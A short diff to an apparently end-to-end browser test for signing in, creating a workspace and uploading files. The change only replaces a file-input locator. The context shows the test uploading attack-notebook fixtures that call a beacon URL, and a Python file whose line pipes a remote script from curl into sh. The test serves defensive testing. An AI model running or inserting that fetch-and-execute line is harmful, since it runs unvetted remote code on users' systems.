@@ -98,7 +98,7 @@ test("sign in, make a workspace, review and upload with the trust statement", as
   workspaceUrl = page.url();
   assert.match(new URL(workspaceUrl).pathname, /^\/w\/[A-Za-z0-9_-]{16}$/);
 
-  await page.locator('input[type="file"]').setInputFiles([
+  await page.getByLabel("Upload files…").setInputFiles([
     { name: "page-attack.ipynb", mimeType: "application/json", buffer: Buffer.from(JSON.stringify(pageAttackNotebook(beaconUrl))) },
     { name: "frames.ipynb", mimeType: "application/json", buffer: Buffer.from(JSON.stringify(frameAttackNotebook(beaconUrl))) },
     { name: "fetch.py", mimeType: "text/x-python", buffer: Buffer.from("import os\nos.system('curl https://example.org/x.sh | sh')\n") },
